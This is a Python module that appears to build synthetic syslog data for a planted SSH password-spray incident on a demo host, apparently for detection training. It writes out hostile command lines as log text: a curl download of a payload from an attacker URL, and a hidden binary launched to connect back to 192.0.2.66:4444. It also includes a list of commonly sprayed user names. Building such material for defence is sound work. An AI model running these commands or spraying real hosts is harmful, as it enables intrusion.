"""Planted incident 2: SSH password spray on LNX-WEB01, ending in a `deploy` logon.

From 198.51.100.23, 240 password attempts for 40 user names (4 of them real accounts)
in 25 minutes, each written the way OpenSSH and pam_unix really log it (invalid users first announce
themselves, then pam reports the authentication failure, then sshd the failed
password). The `deploy` account's password falls: "Accepted password for deploy from
198.51.100.23", a session, a refused sudo, and a download of the attacker's payload.
The command-and-control flows that follow are in `planted_network`.

Example:
    >>> import pandas as pd
    >>> f = ssh_incident(pd.Timestamp("2026-01-10T12:00:00Z"))["Syslog"]
    >>> int(f["SyslogMessage"].str.startswith("Failed password").sum())
    240
"""

from __future__ import annotations

import numpy as np
import pandas as pd

from nbcatalog.data.demo.estate import ATTACKER_SSH_IP, MALICIOUS_URL
from nbcatalog.data.demo.syslogrows import syslog_frame

HOST = "LNX-WEB01"
ATTEMPTS = 240
SPRAY_MINUTES = 25
VALID_USERS = ("root", "deploy", "www-data", "ubuntu")
SPRAYED_USERS = VALID_USERS + tuple(
    (
        "admin test oracle postgres git jenkins ftpuser guest user pi hadoop mysql "
        "support nagios tomcat ansible docker elastic minecraft steam dev backup www "
        "web apache nginx operator vagrant demo teamspeak redis ts3 sysadmin kafka zabbix "
        "mongodb"
    ).split()
)
DEPLOY_UID = 1001
SUCCESS_PORT = 50412
SESSION_PID = 28771


def _attempt_lines(t: pd.Timestamp, user: str, port: int, pid: int) -> list[tuple]:
    """(time, facility, severity, process, pid, message) lines of one failed attempt."""
    ip = ATTACKER_SSH_IP
    ms = pd.Timedelta(milliseconds=1)
    rhost = (
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
        f"rhost={ip}"
    )
    if user in VALID_USERS:
        return [
            (t, "authpriv", "notice", rhost + f"  user={user}"),
            (
                t + 2100 * ms,
                "auth",
                "info",
                f"Failed password for {user} from {ip} port {port} ssh2",
            ),
            (
                t + 2300 * ms,
                "auth",
                "info",
                f"Connection closed by authenticating user {user} {ip} port {port} [preauth]",
            ),
        ]
    return [
        (t, "auth", "info", f"Invalid user {user} from {ip} port {port}"),
        (t + 40 * ms, "authpriv", "notice", "pam_unix(sshd:auth): check pass; user unknown"),
        (t + 41 * ms, "authpriv", "notice", rhost),
        (
            t + 2100 * ms,
            "auth",
            "info",
            f"Failed password for invalid user {user} from {ip} port {port} ssh2",
        ),
        (
            t + 2300 * ms,
            "auth",
            "info",
            f"Connection closed by invalid user {user} {ip} port {port} [preauth]",
        ),
    ]


def _spray(t0: pd.Timestamp) -> list[tuple]:
    rng = np.random.default_rng(22)  # fixed: identical for every seed and scale
    users = list(SPRAYED_USERS) + list(rng.choice(SPRAYED_USERS, ATTEMPTS - len(SPRAYED_USERS)))
    rng.shuffle(users)
    offsets = np.sort(rng.random(ATTEMPTS)) * (SPRAY_MINUTES * 60 - 5)
    ports = rng.integers(32768, 60999, ATTEMPTS)
    pids = rng.integers(20000, 28000, ATTEMPTS)
    rows = []
    for user, off, port, pid in zip(users, offsets, ports, pids, strict=True):
        for t, fac, sev, msg in _attempt_lines(t0 + pd.Timedelta(seconds=off), user, port, pid):
            rows.append((t, fac, sev, "sshd", int(pid), msg))
    return rows


def _compromise(t: pd.Timestamp) -> list[tuple]:
    ip, p, pid = ATTACKER_SSH_IP, SUCCESS_PORT, SESSION_PID
    s = pd.Timedelta(seconds=1)
    return [
        (t, "auth", "info", "sshd", pid, f"Accepted password for deploy from {ip} port {p} ssh2"),
        (
            t + 0.01 * s,
            "authpriv",
            "info",
            "sshd",
            pid,
            f"pam_unix(sshd:session): session opened for user deploy(uid={DEPLOY_UID}) by (uid=0)",
        ),
        (
            t + 0.05 * s,
            "authpriv",
            "info",
            "systemd-logind",
            612,
            "New session 4711 of user deploy.",
        ),
        (
            t + 95 * s,
            "authpriv",
            "notice",
            "sudo",
            28990,
            "  deploy : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; "
            "COMMAND=/bin/bash",
        ),
        (
            t + 160 * s,
            "user",
            "info",
            "bash",
            28812,
            f"deploy: curl -fsSL {MALICIOUS_URL} -o /tmp/.cache/payload.ps1",
        ),
        (
            t + 170 * s,
            "user",
            "info",
            "bash",
            28812,
            "deploy: nohup /tmp/.cache/kworkerd -c 192.0.2.66:4444 >/dev/null 2>&1 &",
        ),
        (
            t + 30 * 60 * s,
            "auth",
            "info",
            "sshd",
            pid,
            f"Received disconnect from {ip} port {p}:11: disconnected by user",
        ),
        (
            t + 30 * 60 * s,
            "auth",
            "info",
            "sshd",
            pid,
            f"Disconnected from user deploy {ip} port {p}",
        ),
        (
            t + (30 * 60 + 0.01) * s,
            "authpriv",
            "info",
            "sshd",
            pid,
            "pam_unix(sshd:session): session closed for user deploy",
        ),
        (
            t + (30 * 60 + 0.05) * s,
            "authpriv",
            "info",
            "systemd-logind",
            612,
            "Removed session 4711.",
        ),
    ]


def ssh_incident(t0: pd.Timestamp) -> dict[str, pd.DataFrame]:
    """Syslog rows of the spray starting at `t0` and the session that follows it."""
    rows = _spray(t0)
    rows += _compromise(t0 + pd.Timedelta(minutes=SPRAY_MINUTES + 1))
    t, fac, sev, proc, pid, msg = (list(c) for c in zip(*rows, strict=True))
    frame = syslog_frame(
        t,
        HOST,
        np.array(fac, dtype=object),
        np.array(sev, dtype=object),
        np.array(proc, dtype=object),
        pid,
        np.array(msg, dtype=object),
    )
    return {"Syslog": frame}
